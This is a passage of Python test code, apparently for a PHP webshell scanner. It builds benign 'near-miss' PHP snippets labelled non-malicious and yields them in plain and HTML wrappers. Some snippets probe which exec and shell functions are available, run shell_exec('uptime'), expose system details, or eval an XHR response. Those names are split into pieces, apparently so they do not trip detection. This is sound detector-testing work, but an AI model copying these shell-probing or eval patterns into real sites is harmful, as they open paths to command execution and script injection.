        "echo json_encode(['ok' => isset($data['id'])]);",
    ),
    "session-login": (
        "session_start();",
        f"{SESSION}['user'] = preg_replace('/[^a-z0-9]/', '', {P}['user'] ?? '');",
        "header('Location: /');",
    ),
    "dispatch-method": (
        f"$action = {G}['action'] ?? 'index';",
        "if (method_exists($ctl, $action . 'Action')) { call_user_func([$ctl, $action . 'Action']); }",
    ),
    "page-router": (
        f"$page = {G}['p'] ?? 'home';",
        "$file = __DIR__ . '/pages/' . basename($page) . '.php';",
        "if (is_file($file)) {",
        "    include $file;",
        "}",
    ),
    "lang-router": (
        f"$lang = in_array({C}['lang'] ?? '', ['zh', 'en'], true) ? {C}['lang'] : 'zh';",
        '$strings = __DIR__ . "/lang/$lang.php";',
        "require $strings;",
    ),
    "inline-script": (
        f"$id = (int) ({G}['id'] ?? 0);",
        "?>",
        "<script>",
        "function url(base) { return `${base}/api/news?id=<?= $id ?>`; }",
        "var data = eval(xhr.responseText);",
        "var m = /id=(\\d+)/.exec(location.search);",
        "</script>",
        "<?php",
    ),
    "csv-export": (
        "$eol = chr(13) . chr(10);",
        f"$ids = array_map('intval', explode(',', {G}['ids'] ?? ''));",
        "$sql = 'SELECT id, name FROM students ' . 'WHERE id IN (' . implode(',', $ids) . ')';",
        "usort($rows, 'strcmp');",
        "echo implode($eol, $rows);",
    ),
    "date-parts": (
        f"$d = explode('-', {G}['d'] ?? '2026-12-07');",
        "$label = $d[0] . $d[1] . $d[2];",
        "$fmt = $formatters[$label] ?? 'strval';",
        "echo $fmt($label);",
    ),
    "exec-check": (
        f"$avail = array_filter(['exec', 'shell_{t('ex', 'ec')}', '{SYSTEM}', '{PASSTHRU}'], 'function_exists');",
        "$names = array_map('strtoupper', array('exec', 'popen'));",
        f"$fmt = {G}['fmt'] ?? 'json';",
        "$out = $fmt === 'json' ? 'json_encode' : 'serialize';",
        "echo $out($avail);",
    ),
    "mb-cleanup": (
        f"$q = mb_ereg_replace('[\\s　]+', ' ', {P}['q'] ?? '');",
        "$q = mb_ereg_replace('^ | $', '', $q, 'msr');",
        "echo htmlspecialchars($q);",
    ),
    "request-copy": (f"$params = {G};", "$page = max(1, (int) ($params['page'] ?? 1));", "echo $page;"),
    "name-join": (
        f"$first = trim({P}['first'] ?? '');",
        "$last = 'Li';",
        "$full = $first . $last;",
        "echo htmlspecialchars($full);",
    ),
    "date-format": ("$f = 'Y' . '-m-d';", f"echo date($f, (int) ({G}['ts'] ?? time()));"),
    "padded-benign": (benign_code(60_000)[len("<?php\n") :],),
    "visit-log": (f"{FPC}(__DIR__ . '/visits.log', date('c') . ' ' . ({G}['page'] ?? '') . \"\\n\", FILE_APPEND);",),
    "random-upload": (
        "$name = bin2hex(random_bytes(8)) . '.jpg';",
        f"{MUF}({t('$_FI', 'LES')}['f']['tmp_name'], __DIR__ . '/uploads/' . $name);",
    ),
    "status-page": (
        f"@{t('set_time', '_limit(0)')};",
        f"$tab = {G}['tab'] ?? 'os';",
        f"echo {t('php_', 'uname')}() . ' ' . {t('get', 'cwd')}() . ' ' . ini_get('{t('disable', '_functions')}');",
        f"echo '<pre>' . htmlspecialchars((string) {t('shell', '_exec')}('uptime {t('2>', '&1')}')) . '</pre>';",
    ),
    "cache-write": (
        f"$id = (int) {G}['id'];",
        f"{FPC}(__DIR__ . '/cache/' . $id . '.json', json_encode(['id' => $id]));",
    ),
}


def cases() -> Iterator[Case]:
    yield from hit_cases()
    yield from dropper_cases(5000)
    yield from nonalnum_cases(6000)
    yield from page_cases(7000)
    yield from medium_cases(8000)
    for name, lines in NEAR_MISSES.items():
        text = "<?php\n" + "\n".join(lines) + "\n"
        for wrapper in ("plain", "html"):
            body = text if wrapper == "plain" else "<html><body>\n" + text + "?>\n</body></html>\n"
            yield Case("php.near-miss", f"benign={name} wrapper={wrapper}", "php", f"{name}.php", body.encode(), False)
